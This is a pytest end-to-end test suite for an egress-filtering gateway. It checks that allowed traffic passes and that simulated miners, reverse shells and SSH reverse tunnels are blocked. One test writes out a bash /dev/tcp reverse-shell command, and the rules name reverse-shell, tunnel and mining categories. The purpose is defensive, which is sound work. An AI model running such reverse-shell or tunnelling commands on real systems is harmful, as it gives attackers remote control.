"""The live gateway end to end: real programs in sbx talk to servers in ext through gw,
where `egress run` enforces a policy. Blocked flows must really fail, allowed ones must
arrive intact, and the kernel state (rules, connmarks) must be what egress claims.
"""
from __future__ import annotations

import hashlib
import os
import signal
import subprocess
import time

import pytest

from tests.e2e.lab import PY, Gateway, records, start_echo

LAB_RULES = """\
version: 1
default_policy: lab
policies:
  lab:
    mode: enforce
    rules:
      - name: block-mining
        action: drop
        categories: [mining]
      - name: block-tunnels
        action: drop
        categories: [reverse_tunnel, reverse_shell, tunnel]
%(extra)s    default: allow
"""

REJECT_7001 = """\
      - name: reject-7001
        action: reject
        ports: [7001]
"""


def write_rules(path, extra: str = "") -> str:
    path.write_text(LAB_RULES % {"extra": extra})
    return str(path)


@pytest.fixture(scope="module")
def rules(lab):
    return write_rules(lab.workdir / "lab.yaml")


@pytest.fixture(scope="class")
def gateway(lab, rules):
    """One egress daemon shared by the tests of a class (one daemon per namespace at a time)."""
    gw = Gateway(lab.topo, lab.workdir, rules=[rules], name="shared")
    yield gw
    gw.stop()


def egress_lines(lab, family: int = 4) -> list[str]:
    tool = "iptables-save" if family == 4 else "ip6tables-save"
    return [l for l in lab.topo.run("gw", tool).stdout.splitlines() if "egress" in l or "EGRESS" in l]


def chain_counters(lab) -> dict[str, int]:
    """Packets counted by the fast-path ACCEPT rule and by the NFQUEUE rule (IPv4)."""
    out = lab.topo.run("gw", "iptables", "-w", "-L", "EGRESS-FWD", "-v", "-x", "-n").stdout
    counts = {}
    for line in out.splitlines():
        words = line.split()
        if len(words) > 2 and words[2] in ("ACCEPT", "NFQUEUE"):
            counts[words[2]] = counts.get(words[2], 0) + int(words[0])
    return counts


class TestOneGateway:
    """Allowed and blocked flows through one daemon running the lab rules."""

    # allowed traffic ------------------------------------------------------------------------

    def test_https_download_by_name_arrives_intact_and_is_logged(self, lab, gateway):
        blob = os.urandom(3_000_000)
        www = lab.workdir / "www"
        www.mkdir(exist_ok=True)
        (www / "blob").write_bytes(blob)
        cert, key = lab.cert
        lab.server("dns", "--host", lab.ext4, "--zone", "files.egress.test=" + lab.ext4)
        lab.server("https", "--host", lab.ext4, "--port", "443", "--cert", cert, "--key", key, "--root", str(www))
        lab.topo.set_resolver("sbx", lab.ext4)
        before = chain_counters(lab)
        got = lab.sbx("sh", "-c", "curl -sS --max-time 20 --cacert %s https://files.egress.test/blob | sha256sum" % cert)
        assert got.stdout.split()[0] == hashlib.sha256(blob).hexdigest(), got.stderr
        after = chain_counters(lab)
        # The download took the kernel fast path: most of its packets never reached the queue.
        assert after["ACCEPT"] - before["ACCEPT"] > after["NFQUEUE"] - before["NFQUEUE"]
        gateway.hup("egress: reloaded")            # nothing changed; it must not disturb anything
        time.sleep(0.3)

    # blocked traffic really fails ---------------------------------------------------------------

    def test_stratum_miner_never_logs_in(self, lab, gateway):
        record = lab.sim_pool("stratum", 3333)
        proc = lab.sbx(PY, "-m", "egress.sim.stratum", "client", "--connect", "%s:3333" % lab.ext4,
                       "--duration", "2", "--share-interval", "0.2", timeout=20)
        assert proc.returncode != 0 or '"shares": 0' in proc.stdout
        received = [r["msg"].get("method") for r in records(record) if r["dir"] == "in"]
        assert "mining.authorize" not in received and "mining.subscribe" not in received, received

    def test_xmrig_login_on_port_443_never_reaches_the_pool(self, lab, gateway):
        pool_ip = lab.topo.add_ext_address(1)     # a second outside host, so :443 is free
        record = lab.sim_pool("xmr", 443, host=pool_ip)
        proc = lab.sbx(PY, "-m", "egress.sim.xmr", "client", "--connect", "%s:443" % pool_ip,
                       "--duration", "2", "--share-interval", "0.2", timeout=20)
        received = [r["msg"].get("method") for r in records(record) if r["dir"] == "in"]
        assert "login" not in received and "submit" not in received, (received, proc.stdout, proc.stderr)

    def test_a_new_connection_on_a_fast_pathed_5_tuple_is_inspected_again(self, lab, gateway):
        """Port reuse: the first connection is allowed and handed to the kernel (its 9 KB
        fill the inspection depth), so egress never sees it end (it ends with a reset). A
        second connection from the same source port to the same server must be a new flow,
        not ride on the first one's verdict."""
        lab.echo(lab.ext4, 7120)
        code = ("import random,socket,struct\n"
                "def conn(port, data):\n"
                " s=socket.socket(); s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1); s.bind(('',port))\n"
                " s.settimeout(2); s.connect((%r,7120)); s.sendall(data)\n"
                " try: got=s.recv(4096)[:4]\n"
                " except OSError as e: got=type(e).__name__.encode()\n"
                " s.setsockopt(socket.SOL_SOCKET,socket.SO_LINGER,struct.pack('ii',1,0)); s.close()\n"
                " return got.decode()\n"
                "port=random.randint(42000,48000)\n"
                "print(conn(port, b'GET / HTTP/1.1\\r\\nHost: www.egress.test\\r\\n\\r\\n' + b'x' * 9000))\n"
                "print(conn(port, b'{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[]}\\n'))\n") % lab.ext4
        out = lab.sbx(PY, "-c", code, timeout=20).stdout.split()
        assert out == ["GET", "TimeoutError"], out      # the login never got its echo
        deadline = time.monotonic() + 5
        while time.monotonic() < deadline and not any(e["flow"]["reason"] == "reused" for e in gateway.flows_to(7120)):
            time.sleep(0.1)
        first = [e for e in gateway.flows_to(7120) if e["flow"]["reason"] == "reused"]
        assert len(first) == 1 and first[0]["verdict"]["action"] == "allow", gateway.flows_to(7120)

    def test_reverse_shell_gets_no_command_through(self, lab, gateway):
        record = lab.server("listen", "--host", lab.ext4, "--port", "4444", "--send", "id\\n", "--idle", "4")
        lab.sbx("timeout", "3", "bash", "-c", "exec 3<>/dev/tcp/%s/4444; sh <&3 >&3 2>&3" % lab.ext4, timeout=15)
        time.sleep(0.5)
        got = "".join(r.get("received", "") for r in records(record) if r["kind"] == "conn")
        assert "uid=" not in got

def test_sigterm_writes_flow_events_and_removes_rules(lab, rules):
    gw = Gateway(lab.topo, lab.workdir, rules=[rules], name="sigterm")
    assert len(egress_lines(lab, 4)) >= 10 and len(egress_lines(lab, 6)) >= 10
    start_echo(lab.topo, lab.ext4, 7100)
    assert lab.tcp_exchange(lab.ext4, 7100, b"ping") == "ok:ping"
    assert gw.stop() == 0
    assert egress_lines(lab, 4) == [] and egress_lines(lab, 6) == []
    flows = gw.flows_to(7100)
    assert len(flows) == 1 and flows[0]["verdict"]["action"] == "allow"
    assert flows[0]["flow"]["bytes_toserver"] > 0


def test_v6_is_queued_and_enforced(lab, tmp_path):
    rules = write_rules(tmp_path / "v6.yaml", REJECT_7001)
    gw = Gateway(lab.topo, lab.workdir, rules=[rules], name="v6")
    try:
        start_echo(lab.topo, lab.ext6, 7001)
        start_echo(lab.topo, lab.ext6, 7101)
        assert lab.tcp_exchange(lab.ext6, 7101, b"six") == "ok:six"
        assert lab.tcp_exchange(lab.ext6, 7001, b"six") in ("error:ConnectionRefusedError", "error:ConnectionResetError")
    finally:
        gw.stop()
    v6 = [e for e in gw.events() if e["dest_ip"] == lab.ext6]
    assert {e["dest_port"]: e["verdict"]["action"] for e in v6} == {7101: "allow", 7001: "reject"}


def test_ssh_R_with_real_openssh_fails_under_the_default_rules(lab, repo_root, tmp_path):
    if not os.path.exists("/usr/sbin/sshd") or not os.path.exists("/usr/bin/ssh"):
        pytest.skip("needs OpenSSH's sshd and ssh")
    ssh = start_sshd(lab, tmp_path, port=2222)
    gw = Gateway(lab.topo, lab.workdir, rules=[str(repo_root / "rules" / "default.yaml")], name="ssh")
    try:
        started = time.monotonic()
        rev = lab.sbx("timeout", "10", *ssh[:-1], "-N", "-o", "ExitOnForwardFailure=yes",
                      "-R", "9999:127.0.0.1:22", ssh[-1], timeout=20)
        assert rev.returncode not in (0, 124)          # failed, and not by our timeout: rejected
        assert time.monotonic() - started < 8
        assert "Accepted publickey" not in (tmp_path / "sshd.log").read_text()
        listening = lab.topo.run("ext", "ss", "-ltn", check=False).stdout
        assert ":9999" not in listening
    finally:
        gw.stop()
    ssh_flows = gw.flows_to(2222)
    assert ssh_flows and all(f["verdict"]["action"] == "reject" for f in ssh_flows)
    assert all(f["app_proto"] == "ssh" for f in ssh_flows)


def start_sshd(lab, tmp_path, port: int) -> list[str]:
    """A real sshd in ext with a fresh host key and one test key pair; returns the ssh argv."""
    d = tmp_path
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(d / "host")], check=True)
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(d / "user")], check=True)
    (d / "authorized_keys").write_text((d / "user.pub").read_text())
    os.chmod(d / "authorized_keys", 0o600)
    (d / "sshd_config").write_text(
        "Port %d\nListenAddress %s\nHostKey %s\nAuthorizedKeysFile %s\nPasswordAuthentication no\n"
        "KbdInteractiveAuthentication no\nUsePAM no\nPermitRootLogin prohibit-password\nStrictModes no\n"
        "AllowTcpForwarding yes\nGatewayPorts no\nPidFile none\n" % (port, lab.ext4, d / "host", d / "authorized_keys"))
    os.makedirs("/run/sshd", exist_ok=True)
    lab.topo.popen("ext", ["/usr/sbin/sshd", "-D", "-e", "-f", str(d / "sshd_config")],
                   stdout=subprocess.DEVNULL, stderr=open(d / "sshd.log", "w"))
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline:
        if lab.topo.run("ext", "ss", "-ltn", check=False).stdout.count(":%d" % port):
            break
        time.sleep(0.05)
    return ["ssh", "-i", str(d / "user"), "-p", str(port), "-o", "StrictHostKeyChecking=no",
            "-o", "UserKnownHostsFile=/dev/null", "-o", "BatchMode=yes", "-o", "ConnectTimeout=5",
            "-o", "LogLevel=ERROR", "root@" + lab.ext4]


# -- reload, revocation -------------------------------------------------------------------------

def test_sighup_reload_changes_verdict_and_invalid_file_keeps_old_policy(lab, tmp_path):
    rules = tmp_path / "reload.yaml"
    write_rules(rules)
    start_echo(lab.topo, lab.ext4, 7001)
    gw = Gateway(lab.topo, lab.workdir, rules=[str(rules)], name="reload")
    try:
        assert lab.tcp_exchange(lab.ext4, 7001, b"before") == "ok:before"
        write_rules(rules, REJECT_7001)
        gw.eve.rename(gw.eve.with_suffix(".1"))          # logrotate moves the file away
        gw.hup("egress: reloaded")
        assert lab.tcp_exchange(lab.ext4, 7001, b"after") in ("error:ConnectionRefusedError",
                                                              "error:ConnectionResetError")
        rules.write_text("version: 1\npolicies: [this is not a mapping\n")
        gw.hup("egress: reload failed")
        failed = [l for l in gw.stderr().splitlines() if "reload failed" in l]
        assert len(failed) == 1 and "reload.yaml" in failed[0]
        # Still the previous (valid) policy: 7001 rejected, everything else allowed.
        assert lab.tcp_exchange(lab.ext4, 7001, b"again") in ("error:ConnectionRefusedError",
                                                              "error:ConnectionResetError")
        start_echo(lab.topo, lab.ext4, 7002)
        assert lab.tcp_exchange(lab.ext4, 7002, b"other") == "ok:other"
    finally:
        assert gw.stop() == 0
    # The EVE file was reopened on SIGHUP: the flows ended at shutdown are in the new file.
    assert gw.eve.with_suffix(".1").exists()
    assert {e["dest_port"] for e in gw.events()} >= {7001, 7002}


@pytest.mark.parametrize("nat,v6", [(False, False), (True, False), (False, True)], ids=["routed", "masquerade", "ipv6"])
def test_reload_revokes_a_fast_pathed_connection(lab, tmp_path, nat, v6):
    """The connmark of a live, fast-pathed connection is rewritten by its full tuple, also
    when the gateway masquerades (conntrack's original tuple is the sandbox's view)."""
    port = 7013 if nat else 7023 if v6 else 7003
    server = lab.ext6 if v6 else lab.ext4
    marks = lambda: conntrack_marks(lab, port, family=6 if v6 else 4)
    rules = tmp_path / "revoke.yaml"
    write_rules(rules)
    start_echo(lab.topo, server, port)
    masquerade = ["POSTROUTING", "-o", lab.topo.ext_iface, "-j", "MASQUERADE"]
    if nat:
        lab.topo.run("gw", "iptables", "-w", "-t", "nat", "-A", *masquerade)
    gw = Gateway(lab.topo, lab.workdir, rules=[str(rules)], name="revoke-%s" % nat)
    client = lab.topo.popen("sbx", [PY, "-c", LONG_CLIENT % (server, port)], stdin=subprocess.PIPE,
                            stdout=subprocess.PIPE, text=True)
    try:
        # Binary data until every detector has given up and the flow is offloaded.
        for _ in range(40):
            assert echo_line(client, 1000) == "ok"
            if marks() == ["0x9000000"]:
                break
        assert marks() == ["0x9000000"]     # the kernel fast path carries it
        if nat:
            # The reply tuple shows the masquerade: ext answers the gateway's address.
            assert "dst=%s sport=%d" % (lab.topo.addr.gw_ext4, port) in lab.topo.run(
                "gw", "conntrack", "-L", "-p", "tcp", "--dport", str(port)).stdout
        write_rules(rules, "      - name: block-it\n        action: drop\n        ports: [%d]\n" % port)
        gw.hup("egress: reloaded")
        assert "revoked flow" in gw.stderr()
        assert marks() == ["0xa000000"]
        assert echo_line(client, 1000) in ("timeout", "TimeoutError")
    finally:
        client.kill()
        gw.stop()
        if nat:
            lab.topo.run("gw", "iptables", "-w", "-t", "nat", "-D", *masquerade)


def test_reload_revokes_a_fast_pathed_connection_idle_past_the_engines_timeout(lab, tmp_path):
    """The engine sees none of a fast-pathed connection's packets, so after its idle
    timeout (1 s here) the flow would leave the table, and with it the last chance to
    revoke it. It stays while conntrack has the connection open; a closed one ends."""
    port = 7014
    rules = tmp_path / "idle.yaml"
    write_rules(rules)
    start_echo(lab.topo, lab.ext4, port)
    gw = Gateway(lab.topo, lab.workdir, rules=[str(rules)], extra=["--flow-timeout", "tcp_established=1"],
                 name="idle-revoke")
    clients = [lab.topo.popen("sbx", [PY, "-c", LONG_CLIENT % (lab.ext4, port)], stdin=subprocess.PIPE,
                              stdout=subprocess.PIPE, text=True) for _ in range(2)]
    try:
        for client in clients:
            for _ in range(40):
                assert echo_line(client, 1000) == "ok"
                if conntrack_marks(lab, port).count("0x9000000") == clients.index(client) + 1:
                    break
        assert conntrack_marks(lab, port) == ["0x9000000", "0x9000000"]     # both on the fast path
        clients[1].stdin.close()                                            # the second one closes
        assert clients[1].wait(5) == 0
        time.sleep(3.0)                     # idle in the engine's view for three of its timeouts
        assert echo_line(clients[0], 1000) == "ok"
        write_rules(rules, "      - name: block-it\n        action: drop\n        ports: [%d]\n" % port)
        gw.hup("egress: reloaded")
        assert gw.stderr().count("revoked flow") == 1
        assert echo_line(clients[0], 1000) in ("timeout", "TimeoutError")
    finally:
        for client in clients:
            client.kill()
            client.wait()
        assert gw.stop() == 0
    counters = gw.stats()
    assert counters["held.open"] >= 2 and counters["held.ended"] >= 1
    flows = gw.flows_to(port)
    assert len(flows) == 2                  # one flow event each: the closed one's came early
    closed = [f for f in flows if f["flow"]["reason"] == "closed"]
    assert len(closed) == 1 and closed[0]["verdict"]["action"] == "allow"
    assert all(f["flow"]["bypass"] == "kernel" for f in flows)


LONG_CLIENT = """\
import os, socket, sys
s = socket.create_connection((%r, %d), timeout=2)
for line in sys.stdin:
    n = int(line)
    data = os.urandom(n)
    try:
        s.sendall(data)
        got = b""
        while len(got) < n:
            chunk = s.recv(n - len(got))
            if not chunk:
                break
            got += chunk
        print("ok" if got == data else "short", flush=True)
    except OSError as exc:
        print(type(exc).__name__, flush=True)
"""


def echo_line(client, n: int) -> str:
    client.stdin.write("%d\n" % n)
    client.stdin.flush()
    return client.stdout.readline().strip()


def conntrack_marks(lab, port: int, family: int = 4) -> list[str]:
    """egress's verdict and slot bits of the connmarks (not its SYN_SEEN bit)."""
    from egress.drivers.iptables import OWNED_BITS
    out = lab.topo.run("gw", "conntrack", "-L", "-f", "ipv%d" % family, "-p", "tcp", "--dport", str(port),
                       check=False).stdout
    marks = []
    for line in out.splitlines():
        for word in line.split():
            if word.startswith("mark="):
                marks.append(hex(int(word[5:]) & OWNED_BITS))
    return marks


# -- crash clean-up, fail-open / fail-closed, metrics ----------------------------------------------

def test_crashed_daemon_fails_closed_and_iptables_remove_cleans_up(lab, rules, tmp_path):
    start_echo(lab.topo, lab.ext4, 7004)
    gw = Gateway(lab.topo, lab.workdir, rules=[rules], name="crash")
    gw.proc.send_signal(signal.SIGKILL)
    gw.proc.wait(5)
    assert any("NFQUEUE" in l for l in egress_lines(lab))
    # Fail-closed (the default): nobody bound to the queue, so new connections go nowhere.
    assert lab.tcp_exchange(lab.ext4, 7004, b"x", timeout=1.5) == "error:TimeoutError"
    out = lab.topo.run("gw", PY, "-m", "egress.cli", "iptables", "remove").stdout
    assert "removed" in out
    assert egress_lines(lab, 4) == [] and egress_lines(lab, 6) == []
    assert "no egress rules" in lab.topo.run("gw", PY, "-m", "egress.cli", "iptables", "remove").stdout
    assert lab.tcp_exchange(lab.ext4, 7004, b"free") == "ok:free"


def test_fail_open_daemon_gone_lets_traffic_pass(lab, rules):
    start_echo(lab.topo, lab.ext4, 7005)
    gw = Gateway(lab.topo, lab.workdir, rules=[rules], extra=["--fail-open"], name="failopen")
    try:
        gw.proc.send_signal(signal.SIGKILL)
        gw.proc.wait(5)
        assert any("--queue-bypass" in l for l in egress_lines(lab))
        assert lab.tcp_exchange(lab.ext4, 7005, b"open") == "ok:open"
    finally:
        lab.topo.run("gw", PY, "-m", "egress.cli", "iptables", "remove")


def test_metrics_reachable_from_gateway_only(lab):
    address = "%s:9108" % lab.topo.addr.gw_sbx4
    gw = Gateway(lab.topo, lab.workdir, extra=["--metrics", address], name="metrics")
    try:
        start_echo(lab.topo, lab.ext4, 7006)
        assert lab.tcp_exchange(lab.ext4, 7006, b"m") == "ok:m"
        inside = lab.topo.run("gw", "curl", "-s", "--max-time", "3", "http://%s/metrics" % address, check=False)
        assert "egress_packets_total" in inside.stdout and "egress_decision_seconds_bucket" in inside.stdout
        outside = lab.sbx("curl", "-s", "--max-time", "2", "http://%s/metrics" % address)
        assert outside.returncode != 0 and "egress_" not in outside.stdout
    finally:
        gw.stop()


# -- more queues, sidecar mode, reload under load ----------------------------------------------

def queue_table(lab, role: str = "gw") -> dict[int, list[int]]:
    out = lab.topo.run(role, "cat", "/proc/net/netfilter/nfnetlink_queue").stdout
    return {int(line.split()[0]): [int(x) for x in line.split()[1:]] for line in out.splitlines() if line.strip()}


def test_two_queues_are_bound_and_balanced_flows_pass(lab, rules):
    start_echo(lab.topo, lab.ext4, 7007)
    gw = Gateway(lab.topo, lab.workdir, rules=[rules], extra=["--queue", "0-1"], name="twoq")
    try:
        assert sum("CONNMARK --set-xmark" in l and "0x80000/0x80000" not in l for l in egress_lines(lab)) == 2
        for i in range(6):
            assert lab.tcp_exchange(lab.ext4, 7007, b"q%d" % i) == "ok:q%d" % i
        table = queue_table(lab)
        assert set(table) == {0, 1}
        # One sandbox, one server: connections still spread over both queues.
        assert all(row[6] > 0 for row in table.values())          # id_sequence: packets queued
    finally:
        assert gw.stop() == 0


def test_sidecar_mode_in_the_sandbox_namespace(lab, rules, tmp_path):
    record = lab.sim_pool("stratum", 3335)
    start_echo(lab.topo, lab.ext4, 7008)
    log = open(tmp_path / "sidecar.log", "w")
    eve = tmp_path / "sidecar.json"
    proc = lab.topo.popen("sbx", [PY, "-m", "egress.cli", "run", "--mode", "sidecar", "--rules", rules,
                                  "--eve", str(eve), "--metrics", "off"], stdout=subprocess.DEVNULL, stderr=log)
    try:
        deadline = time.monotonic() + 20
        while "egress: ready" not in (tmp_path / "sidecar.log").read_text():
            assert proc.poll() is None and time.monotonic() < deadline, (tmp_path / "sidecar.log").read_text()
            time.sleep(0.05)
        sidecar_rules = lab.topo.run("sbx", "iptables-save").stdout
        assert "-A OUTPUT ! -o lo -m comment --comment egress -j EGRESS-OUT" in sidecar_rules
        assert lab.tcp_exchange(lab.ext4, 7008, b"side") == "ok:side"
        lab.sbx(PY, "-m", "egress.sim.stratum", "client", "--connect", "%s:3335" % lab.ext4, "--duration", "2",
                timeout=15)
        assert not [r for r in records(record) if r["dir"] == "in"]
    finally:
        proc.send_signal(signal.SIGTERM)
        assert proc.wait(15) == 0
    assert "egress" not in lab.topo.run("sbx", "iptables-save").stdout


INBOUND_CLIENT = """\
import socket, sys, time
t = time.monotonic()
try:
    s = socket.create_connection((%r, %d), timeout=3)
    s.sendall(b"in"); s.shutdown(socket.SHUT_WR); print("ok:" + s.recv(10).decode())
except Exception as e:
    print("error:" + type(e).__name__)
print(round(time.monotonic() - t, 2))
"""


def test_sidecar_refuses_a_rejected_inbound_connection_at_once(lab, tmp_path):
    """In the sandbox's own namespace the reset REJECT sends for an inbound connection
    leaves through OUTPUT, where that connection's REJECT connmark used to reject (drop)
    the reset itself: the peer waited for a timeout instead of being refused."""
    rules = write_rules(tmp_path / "sidecar-in.yaml", REJECT_7001.replace("7001", "7301"))
    for port in (7301, 7302):
        proc = lab.topo.popen("sbx", [PY, "-c", __import__("tests.e2e.lab", fromlist=["x"]).echo_server_code(
            lab.topo.addr.sbx4, port)], stdout=subprocess.PIPE, text=True)
        assert proc.stdout.readline().strip() == "ready"
    log = open(tmp_path / "sidecar-in.log", "w")
    sidecar = lab.topo.popen("sbx", [PY, "-m", "egress.cli", "run", "--mode", "sidecar", "--rules", rules,
                                     "--metrics", "off"], stdout=subprocess.DEVNULL, stderr=log)
    try:
        deadline = time.monotonic() + 20
        while "egress: ready" not in (tmp_path / "sidecar-in.log").read_text():
            assert sidecar.poll() is None and time.monotonic() < deadline
            time.sleep(0.05)
        allowed = lab.topo.run("ext", PY, "-c", INBOUND_CLIENT % (lab.topo.addr.sbx4, 7302)).stdout.split()
        assert allowed[0] == "ok:in"
        refused, took = lab.topo.run("ext", PY, "-c", INBOUND_CLIENT % (lab.topo.addr.sbx4, 7301)).stdout.split()
        assert refused in ("error:ConnectionRefusedError", "error:ConnectionResetError") and float(took) < 1.5
    finally:
        sidecar.send_signal(signal.SIGTERM)
        assert sidecar.wait(15) == 0


RELOAD_LOAD_CLIENT = """\
import socket, sys, time
ok = bad = 0
end = time.time() + %r
while time.time() < end and ok + bad < 3000:
    try:
        s = socket.create_connection((%r, %d), timeout=2)
        s.sendall(b"load"); s.shutdown(socket.SHUT_WR)
        ok += s.recv(10) == b"load"
        s.close()
    except OSError:
        bad += 1
print(ok, bad)
"""


def test_reloads_under_load_lose_no_packet(lab, rules):
    start_echo(lab.topo, lab.ext4, 7009)
    gw = Gateway(lab.topo, lab.workdir, rules=[rules], name="load")
    try:
        client = lab.topo.popen("sbx", [PY, "-c", RELOAD_LOAD_CLIENT % (3.0, lab.ext4, 7009)], stdout=subprocess.PIPE,
                                text=True)
        time.sleep(0.3)
        for i in range(5):
            gw.hup("egress: reloaded")
            time.sleep(0.3)
        ok, bad = map(int, client.stdout.read().split())
        client.wait(10)
        assert ok > 100 and bad == 0, (ok, bad)
        table = queue_table(lab)
        assert table[0][4] == 0 and table[0][5] == 0          # queue_dropped, user_dropped
    finally:
        assert gw.stop() == 0


def test_worker_per_queue_processes(lab, rules, tmp_path):
    start_echo(lab.topo, lab.ext4, 7010)
    eve = tmp_path / "w.json"
    gw = Gateway(lab.topo, lab.workdir, rules=[rules], extra=["--queue", "0-1", "--workers", "--eve", str(eve)],
                 name="workers")
    try:
        table = queue_table(lab)
        assert set(table) == {0, 1} and table[0][0] != table[1][0]        # two processes (portids)
        for i in range(6):
            assert lab.tcp_exchange(lab.ext4, 7010, b"w%d" % i) == "ok:w%d" % i
        gw.hup("egress[queue 1]: reloaded")
        gw.wait_for("egress[queue 0]: reloaded")
    finally:
        assert gw.stop() == 0
    assert egress_lines(lab, 4) == [] and egress_lines(lab, 6) == []
    written = [p.name for p in tmp_path.iterdir()]
    assert sorted(written) == ["w.q0.json", "w.q1.json"]
    # Both workers judged some of the six connections (one sandbox, one server).
    assert all('"dest_port":7010' in (tmp_path / name).read_text() for name in ("w.q0.json", "w.q1.json"))


# The burst of test_a_queued_burst_gets_its_verdicts_in_batches: 300 datagrams to an
# allowed port interleaved with 300 to a rejected one.
BURST_SENDER = """
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(300):
    s.sendto(b"allowed %d" % i, (sys.argv[1], 7011))
    s.sendto(b"rejected %d" % i, (sys.argv[1], 7001))
"""

# Counts the distinct datagrams that arrive on both ports until 1.5 s pass without one.
BURST_RECEIVER = """
import select, socket, sys
socks = []
for port in (7011, 7001):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 21)
    s.bind((sys.argv[1], port)); socks.append(s)
print("listening", flush=True)
seen = {7011: set(), 7001: set()}
while True:
    ready, _, _ = select.select(socks, [], [], 1.5)
    if not ready:
        break
    for s in ready:
        seen[s.getsockname()[1]].add(s.recv(100))
print(len(seen[7011]), len(seen[7001]))
"""


def test_a_queued_burst_gets_its_verdicts_in_batches(lab, tmp_path):
    # The daemon is stopped while the burst waits in the queue, so it then reads 600
    # packets back to back: their verdicts, accept and reject mixed, leave in batches.
    gw = Gateway(lab.topo, lab.workdir, rules=[write_rules(tmp_path / "burst.yaml", REJECT_7001)],
                 extra=["--no-fast-path"], name="burst")
    receiver = lab.topo.popen("ext", [PY, "-c", BURST_RECEIVER, lab.ext4], stdout=subprocess.PIPE, text=True)
    try:
        assert receiver.stdout.readline().strip() == "listening"
        gw.proc.send_signal(signal.SIGSTOP)
        try:
            lab.sbx(PY, "-c", BURST_SENDER, lab.ext4, check=True)
            assert queue_table(lab)[0][1] == 600           # queue_total: the whole burst waits
        finally:
            gw.proc.send_signal(signal.SIGCONT)
        allowed, rejected = map(int, receiver.communicate(timeout=30)[0].split())
    finally:
        if receiver.poll() is None:
            receiver.kill()
            receiver.wait()
        assert gw.stop() == 0
    assert (allowed, rejected) == (300, 0)
    counters = gw.stats()
    assert counters["driver.accept"] >= 300 and counters["driver.reject"] == 300
    assert counters["driver.verdict_errors"] == 0
    # at most 8 verdicts a call (the default --verdict-batch), and far fewer calls than packets
    assert 600 / 8 <= counters["driver.verdict_sends"] < counters["driver.packets"] / 4
